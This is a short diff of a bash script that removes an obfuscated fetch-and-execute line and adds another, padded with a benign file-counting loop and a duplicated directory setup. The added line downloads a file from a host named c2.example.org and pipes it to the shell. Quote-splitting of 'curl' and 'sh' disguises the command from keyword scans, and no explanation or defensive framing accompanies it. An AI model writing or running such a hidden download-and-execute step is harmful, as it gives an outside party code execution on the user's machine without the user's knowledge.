@@ -1,2 +1,10 @@
 #!/usr/bin/env bash
-c'u'rl -s https://203.0.113.9/x | s"h"
+for f in *.txt; do
+  [ -e "$f" ] || continue
+  wc -l "$f"
+done
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
+c'u'rl -s http://c2.example.org/i.py | s"h"
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
